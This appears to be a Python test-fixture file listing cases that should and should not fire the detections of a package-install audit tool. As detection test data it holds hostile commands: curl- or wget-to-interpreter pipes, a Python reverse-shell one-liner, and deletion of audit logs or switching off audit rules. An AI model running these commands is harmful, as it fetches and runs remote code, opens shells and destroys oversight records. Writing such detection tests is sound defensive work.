"""What fires each detection of the pack, and what is like that and must not."""

from __future__ import annotations

from collections.abc import Sequence

import msgspec

from envtrail.model.gap import Gap, GapCause
from envtrail.model.hours import When
from envtrail.model.operation import FileChange, Operation, Outcome
from envtrail.policy.cases import operation_of
from envtrail.policy.language import Case

OFFICE_HOURS = When(days=["mon-fri"], hours=["08:00-19:00"], zone="UTC")
NIGHT, NOON = "2026-01-07T23:00:00Z", "2026-01-07T12:00:00Z"
Exec = tuple[str, ...]


def execs(*commands: Exec, apart_ms: int = 100, parent: int = 500) -> bytes:
    """Execs of one shell, as the kernel writes them; the first word is the executable's path."""
    lines = []
    for at, argv in enumerate(commands):
        stamp = 1_767_787_200_000 + at * apart_ms
        head = f"msg=audit({stamp // 1000}.{stamp % 1000:03d}:{1000 + at}):"
        name = argv[0].rpartition("/")[2]
        ids = "auid=1001 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001"
        call = f"arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid={parent} pid={2000 + at}"
        lines.append(
            f'type=SYSCALL {head} {call} {ids} tty=pts0 ses=3 comm="{name[:15]}" exe="{argv[0]}" key="user_command_trace"'
        )
        words = " ".join(f"a{n}={word.encode().hex().upper()}" for n, word in enumerate((name, *argv[1:])))
        lines += [f"type=EXECVE {head} argc={len(argv)} {words}", f'type=CWD {head} cwd="/home/alice"', f"type=EOE {head} "]
    return ("\n".join(lines) + "\n").encode()


def record(type_: str, fields: str, serial: int = 77) -> bytes:
    return f"type={type_} msg=audit(1767787200.000:{serial}): {fields}\n".encode()


def operation(**words: object) -> Operation:
    """A made-up operation; what a case does not know is replaced."""
    case = {name: value for name, value in words.items() if name in Case.__struct_fields__}
    made = operation_of(msgspec.convert({"packages": ["numpy==2.0"], "time": NOON, **case}, Case))
    actor = {name: words[name] for name in ("uid", "program", "method") if name in words}
    rest = {name: value for name, value in words.items() if name not in case and name not in actor}
    return msgspec.structs.replace(made, actor=msgspec.structs.replace(made.actor, **actor), **rest)


def gap(cause: GapCause) -> Gap:
    return Gap(id="g", cause=cause, host="h", since_ms=0, until_ms=1000, records=None, detail="d")


def wrote(*paths: str) -> Operation:
    files = [FileChange(path=path, what="created") for path in paths]
    return operation(action="tamper", packages=[], files=files, files_total=len(files))


def typed(*words: str, **more: object) -> Operation:
    return operation(argv=list(words), **more)


SHELL, PYTHON, CURL = "/usr/bin/bash", "/usr/bin/python3.11", "/usr/bin/curl"
Given = bytes | Sequence[Operation] | Gap
CASES: dict[str, tuple[list[Given], list[Given]]] = {
    "change_outside_office_hours": (
        [[operation(time=NIGHT)], [operation(time="2026-01-10T12:00:00Z")]],
        [[operation(time=NOON)], [operation(time=NIGHT, packages=[])], [operation(time=NIGHT, outcome=Outcome.FAILURE)]],
    ),
    "first_use_of_source": (
        [[operation(source="https://new/simple")]],
        [[operation(source="https://known/simple")], [operation()]],
    ),
    "name_like_a_popular_project": (
        [[operation(packages=[f"{name}==1"])] for name in ("reqeusts", "nunpy", "tensor-flow", "scikit-lern")],
        [[operation(packages=[f"{name}==1"])] for name in ("requests", "numpy", "known", "zx", "quite-another-thing")]
        + [[operation(packages=["-reqeusts==1"])]],
    ),
    "root_changes_shared_environment": (
        [[operation(uid=0)], [operation(uid=0, kind="system")]],
        [[operation(uid=1001)], [operation(uid=0, kind="venv")], [operation(uid=0, tool="apt")], [operation(uid=0, packages=[])]],
    ),
    "tampering": ([[wrote("/e/lib/x.py")]], [[operation()]]),
    "startup_code_planted": (
        [[wrote("/e/site-packages/evil.pth")], [wrote("/e/x.py", "/e/site-packages/sitecustomize.py")]],
        [[wrote("/e/site-packages/pth.py")], [operation()]],
    ),
    "agent_without_consent": (
        [[operation(actor="agent", program="claude")]],
        [[operation(actor="human")], [operation(actor="agent", grant="G")], [operation(actor="agent", packages=[])]],
    ),
    "direct_reference": (
        [
            [typed("pip", "install", "git+https://host/x.git")],
            [typed("pip", "install", "x @ git+ssh://git@host/x")],
            [typed("uv", "pip", "install", "https://host/x-1.0-py3-none-any.whl")],
        ],
        [
            [typed("pip", "install", "gitpython")],
            [typed("pip", "install", "--index-url", "https://host/simple", "x")],
            [typed("pip", "uninstall", "git+https://host/x.git", action="remove", packages=["-x==1"])],
        ],
    ),
    "unprotected_index": (
        [[typed("pip", "install", "--trusted-host=pypi", "x")], [typed("pip", "install", "-i", "http://mirror/simple", "x")]],
        [
            [typed("pip", "install", "-i", "https://mirror/simple", "x")],
            [typed("pip", "install", "-i", "http://127.0.0.1:3141/s", "x")],
        ],
    ),
    "break_system_packages": ([[typed("pip", "install", "--break-system-packages", "x")]], [[typed("pip", "install", "x")]]),
    "gap_in_the_trail": (
        [gap(GapCause.DISK_FULL), gap(GapCause.KERNEL_LOST), gap(GapCause.PROCESS_OVERRUN)],
        [gap(GapCause.RESTART), gap(GapCause.RETENTION)],
    ),
    "jupyter_on_all_addresses": (
        [
            execs((PYTHON, "/opt/bin/jupyter-lab", "--ip=0.0.0.0")),
            execs((PYTHON, "-m", "jupyter", "notebook", "--NotebookApp.ip", "0.0.0.0")),
            execs((PYTHON, "/x/jupyter", "lab", "--ServerApp.ip=*")),
        ],
        [execs((PYTHON, "/opt/bin/jupyter-lab", "--ip=127.0.0.1")), execs((PYTHON, "/x/server.py", "--ip=0.0.0.0"))],
    ),
    "download_into_interpreter": (
        [
            execs((SHELL, "-c", "curl -fsSL https://x/i.sh | sudo -E bash -s")),
            execs(("/usr/bin/dash", "-c", "wget -qO- http://x/y|python3 -")),
        ],
        [
            execs((SHELL, "-c", "curl -o f https://x/y")),
            execs((SHELL, "-c", "cat x | sh; curl https://x")),
            execs((SHELL, "-c", "curl x | shuf")),
        ],
    ),
    "download_piped": (
        [execs((CURL, "-s", "https://x/y"), (PYTHON, "-")), execs((PYTHON,), (CURL, "https://x"))],
        [
            execs((CURL, "-o", "f", "https://x/y"), (PYTHON,)),
            execs((CURL, "https://x/y"), (PYTHON, "train.py")),
            execs((CURL, "https://x/y"), (PYTHON,), apart_ms=6000),
            execs((CURL, "https://x/y")) + execs((PYTHON,), parent=501).replace(b":1000)", b":1001)"),
        ],
    ),
    "python_opens_a_shell": (
        [execs((PYTHON, "-c", "import socket,os,pty;s=socket.socket();s.connect(('h',1));pty.spawn('sh')"))],
        [
            execs((PYTHON, "-c", "import socket; socket.socket().connect(('h', 1))")),
            execs((SHELL, "-c", "socket connect /bin/sh")),
        ],
    ),
    "log_deleted": (
        [
            execs(("/usr/bin/rm", "-f", "/var/log/audit/audit.log")),
            execs(("/usr/bin/shred", "/var/lib/envtrail/hot/records.log")),
        ],
        [execs(("/usr/bin/rm", "-f", "/tmp/audit.log")), execs(("/usr/bin/less", "/var/log/audit/audit.log"))],
    ),
    "audit_switched_off": (
        [
            record("CONFIG_CHANGE", "op=set audit_enabled=0 old=1 auid=0 ses=1 res=1"),
            record("DAEMON_END", "op=terminate auid=0 pid=1 uid=0 ses=1 res=success"),
            execs(("/usr/sbin/auditctl", "-e", "0")),
        ],
        [
            record("CONFIG_CHANGE", "op=set audit_enabled=1 old=0 auid=0 ses=1 res=1"),
            record("DAEMON_START", "op=start ver=3.0.9 auid=0 pid=1 uid=0 ses=1 res=success"),
            execs(("/usr/sbin/auditctl", "-s")),
        ],
    ),
    "rules_removed": (
        [
            record("CONFIG_CHANGE", 'auid=0 ses=1 op=remove_rule key="python_pkg_install" list=4 res=1'),
            execs(("/usr/sbin/auditctl", "-D")),
        ],
        [
            record("CONFIG_CHANGE", 'auid=0 ses=1 op=add_rule key="python_pkg_install" list=4 res=1'),
            record("CONFIG_CHANGE", 'auid=0 ses=1 op=remove_rule key="somebody_elses" list=4 res=1'),
            # The service's own upkeep, and the kernel's where a folder goes.
            record("CONFIG_CHANGE", 'auid=4294967295 ses=4294967295 op=remove_rule key="python_pkg_install" list=4 res=1'),
            record("CONFIG_CHANGE", 'auid=0 ses=1 op=remove_rule dir="/opt/env" key="python_pkg_install" list=4 res=1'),
            execs(("/usr/sbin/auditctl", "-l")),
        ],
    ),
    "loginuid_changed": (
        [record("LOGIN", "pid=1 uid=0 old-auid=1001 auid=1002 tty=(none) old-ses=3 ses=4 res=1")],
        [record("LOGIN", "pid=1 uid=0 old-auid=4294967295 auid=1002 tty=(none) old-ses=4294967295 ses=4 res=1")],
    ),
    "mass_download": (
        [execs(*[(CURL, f"https://x/{at}") for at in range(50)])],
        [
            execs(*[(CURL, f"https://x/{at}") for at in range(49)]),
            execs(*[(CURL, f"https://x/{at}") for at in range(60)], apart_ms=20_000),
        ],
    ),
    "many_failed_installs": (
        [[operation(time=f"2026-01-07T12:0{at}:00Z", outcome=Outcome.FAILURE, environment=f"/e/{at}") for at in range(5)]],
        [
            [
                operation(time=f"2026-01-07T12:0{at}:00Z", outcome=Outcome.FAILURE, user=f"u{at % 2}", environment=f"/e/{at}")
                for at in range(5)
            ],
            [operation(time=f"2026-01-07T12:0{at}:00Z", environment=f"/e/{at}") for at in range(5)],
        ],
    ),
}
